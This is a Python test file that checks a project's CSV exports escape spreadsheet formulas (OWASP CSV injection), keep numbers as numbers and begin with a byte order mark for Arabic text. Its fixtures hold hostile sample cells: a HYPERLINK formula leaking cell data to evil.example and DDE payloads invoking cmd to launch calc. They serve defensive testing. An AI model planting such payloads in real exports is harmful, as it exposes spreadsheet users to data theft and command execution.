"""CSV exports open safely in a spreadsheet: formulas people typed stay text (OWASP CSV
injection), numbers stay numbers, and a byte order mark lets Excel read Arabic names."""

from __future__ import annotations

import csv
import io

import pytest

from sidestage.platform.access.models import Role
from sidestage.platform.spreadsheet import csv_document, safe_cell
from tests.helpers import bearer, user_with_role
from tests.rooms_world import World

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
ARABIC = "أمينة العلي"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-1.5e3", "-1.5e3"),
        ("-", "'-"),
        ("a=b", "a=b"),
        (ARABIC, ARABIC),
        (-7, -7),
        (2.5, 2.5),
        (True, True),
        (None, None),
    ],
)
def test_cells_that_a_spreadsheet_would_evaluate_become_text(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_a_document_starts_with_a_byte_order_mark_and_quotes_as_csv_does() -> None:
    text = csv_document([["name", "n"], ['=A1,"x"', -3], [ARABIC, 4]])
    assert text.startswith("\ufeffname,n\r\n")
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["name", "n"],
        ['\'=A1,"x"', "-3"],
        [ARABIC, "4"],
    ]


async def _room_with_hostile_text(world: World) -> tuple[int, str]:
    """People with formula and Arabic names in the public room: an attendance stay, a
    question and a named vote each. Returns the poll's id and an organizer's token."""
    room = {"session_id": world.public.id}
    moderator = await world.with_role(Role.MODERATOR, session_id=world.public.id)
    poll = await moderator.ok(
        "poll.create",
        {**room, "question": "@SUM(1+1)", "options": ["=1+1", "Fine"], "anonymous": False},
    )
    await moderator.ok("poll.open", {"poll_id": poll["poll_id"]})
    for name in (FORMULA, ARABIC):
        person = await world.guest(name)
        await person.ok("room.enter", room)
        await person.ok("qa.ask", {**room, "text": f"+{name}"})
        await person.ok("poll.vote", {"poll_id": poll["poll_id"], "choices": [0]})
    organizer = await user_with_role(world.db, world.http, Role.ORGANIZER)  # type: ignore[arg-type]
    return poll["poll_id"], organizer


async def test_every_export_neutralises_formulas_and_starts_with_a_bom(world: World) -> None:
    poll_id, organizer = await _room_with_hostile_text(world)
    exports = [
        f"/api/sessions/{world.public.id}/attendance.csv",
        f"/api/sessions/{world.public.id}/questions.csv",
        f"/api/polls/{poll_id}/results.csv",
        f"/organizer/attendance.csv?day={world.public.day_id}",
    ]
    for path in exports:
        answer = await world.http.get(path, headers=bearer(organizer))
        assert answer.status == 200, path
        raw = await answer.read()
        assert raw.startswith(b"\xef\xbb\xbf"), path
        cells = [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]
        live = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
        assert live == [], path
        assert ARABIC in "".join(cells), path
        assert "'" + FORMULA in cells or "'+" + FORMULA in cells, path


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
